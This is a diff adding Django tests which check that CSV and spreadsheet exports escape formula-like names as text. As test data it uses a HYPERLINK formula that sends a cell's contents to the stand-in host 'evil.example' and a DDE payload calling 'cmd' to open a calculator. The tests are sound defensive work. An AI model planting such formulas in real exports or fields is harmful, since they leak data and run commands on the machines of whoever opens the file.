@@ -109,6 +109,36 @@ def test_exports_csv_and_xlsx(history):
     assert rows[2][:3] == ("类别 Kind", "排名 Rank", "对象 Entity") and len(rows) >= 4
 
 
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_exports_write_formula_like_names_as_text_and_numbers_as_numbers(history):
+    from openpyxl import load_workbook
+
+    from server.accounts.models import Department
+
+    Department.objects.filter(code="roads").update(name=EVIL)
+    csv = history["leader"].get(f"/api/evaluation/export/?{DEC}&fmt=csv&kind=department")
+    text = csv.content.decode("utf-8")
+    assert "'=HYPERLINK(" in text and ',"=HYPERLINK(' not in text
+    xlsx = history["leader"].get(f"/api/evaluation/export/?{DEC}&fmt=xlsx&kind=department")
+    sheet = load_workbook(io.BytesIO(xlsx.content)).active
+    (cell,) = [c for row in sheet.iter_rows(min_row=4) for c in row if c.value == EVIL]
+    assert cell.data_type == "s" and cell.quotePrefix  # text as written, never a formula
+    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    row = [c.value for c in sheet[cell.row]]
+    assert isinstance(row[6], int) and all(isinstance(v, (int, float)) for v in row[9:]), row
+
+
+def test_which_cells_are_formula_like():
+    from server.evaluation.exports import csv_cell
+
+    for risky in ("=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-"):
+        assert csv_cell(risky) == "'" + risky
+    for safe in (-0.5, -3, 0, "-0.5", "+12", "1e-3", "综合 Composite", "—", "", None):
+        assert csv_cell(safe) == safe
+
+
 def test_leader_pages_department_page_and_bulletin(history):
     leader, roads = Client(), Client()
     leader.force_login(history["leader"].user)
